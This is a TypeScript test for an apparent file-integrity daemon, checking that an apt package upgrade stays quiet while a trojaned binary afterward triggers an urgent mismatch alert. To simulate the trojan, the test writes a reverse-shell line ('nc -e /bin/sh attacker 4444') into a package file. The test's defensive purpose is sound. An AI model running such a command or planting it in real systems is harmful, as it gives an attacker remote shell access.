// The issue's own scenario with the daemon running: a package upgraded by the
// real apt-get (the compiled binary as its hook) while the daemon trickles
// through the package's files gives no file alert and one verified line;
// a binary trojaned right after the upgrade is an urgent mismatch.
import { Database } from "bun:sqlite";
import { afterAll, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { AptRepo, aptToolsMissing, PREFIX } from "../support/aptrepo.ts";
import { BIN, run, writeConfig } from "../support/binary.ts";
import { DaemonProc } from "../support/daemon.ts";

const missing = aptToolsMissing();
const D = `integrityd-test-${process.pid}-d`;
let repo: AptRepo | null = null;
let daemon: DaemonProc | null = null;
afterAll(async () => {
  daemon?.kill();
  await daemon?.exited;
  repo?.cleanup();
});

test.skipIf(!!missing)("while the daemon runs: upgrade quiet with one verified line; a trojan after it urgent", async () => {
  repo = new AptRepo();
  const r = repo;
  const dbPath = join(r.dir, "db.sqlite");
  const area = join(PREFIX, D);
  const conf = writeConfig(r.dir, `database = ${dbPath}\narea = ${area}\nemail = none\nfilerate = 500\nspeedup = 1\n`);
  expect(run(["--init-db", "--config", conf]).code).toBe(0);
  const hook = ["-o", `DPkg::Pre-Install-Pkgs::=${BIN} --apt-hook --config ${conf}`, "-o", `DPkg::Tools::Options::${BIN}::Version=3`];
  const deb = (v: string) => r.buildDeb({ name: D, version: v, files: Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`${D}/bin/t${i}`, `#!/bin/sh\necho ${i} ${v}\n`])) });
  deb("1.0");
  r.publish();
  r.update();
  expect(r.apt(["install", D], hook).code).toBe(0);

  const q = <T>(sql: string, ...args: (string | number)[]): T[] => {
    const db = new Database(dbPath, { readonly: true });
    try {
      return db.query(sql).all(...args) as T[];
    } finally {
      db.close();
    }
  };
  const cycle = () => Number(q<{ value: string }>("SELECT value FROM meta WHERE key = 'scan.cycle'")[0]?.value ?? 0);
  daemon = new DaemonProc(["--config", conf]);
  const d = daemon;
  await d.until(() => cycle() >= 3, 30_000, "two full cycles");
  const mark = q<{ m: number }>("SELECT coalesce(max(id), 0) AS m FROM events")[0].m;

  deb("1.1");
  r.publish();
  r.update();
  const up = r.apt(["install", D], hook);
  expect(up.code).toBe(0);
  let c0 = cycle();
  // the hook's summary line waits in events_inbox until the daemon adopts it (every 2 s; db/inbox.ts)
  const inboxEmpty = () => q<{ n: number }>("SELECT count(*) AS n FROM events_inbox")[0].n === 0;
  await d.until(() => cycle() >= c0 + 2 && inboxEmpty(), 30_000, "two cycles after the upgrade, and the hook's line adopted");
  const after = q<{ kind: string; text: string; details: string }>("SELECT kind, text, details FROM events WHERE id > ? ORDER BY id", mark);
  if (after.length !== 1) console.log(after);
  expect(after.map((e) => e.kind)).toEqual(["package"]);
  expect(after[0].text).toStartWith(`${D} 1.0 → 1.1: 20 files, content verified against file:${r.repo} ./`);

  writeFileSync(join(area, "bin/t7"), "#!/bin/sh\nnc -e /bin/sh attacker 4444\n");
  c0 = cycle();
  await d.until(() => cycle() >= c0 + 2, 30_000, "two cycles after the trojan");
  const alerts = q<{ kind: string; urgent: number; details: string }>("SELECT kind, urgent, details FROM events WHERE id > ? AND kind != 'package' ORDER BY id", mark);
  expect(alerts.map((e) => [e.kind, e.urgent, JSON.parse(e.details).package])).toEqual([["changed", 1, "mismatch"]]);
}, 120_000);
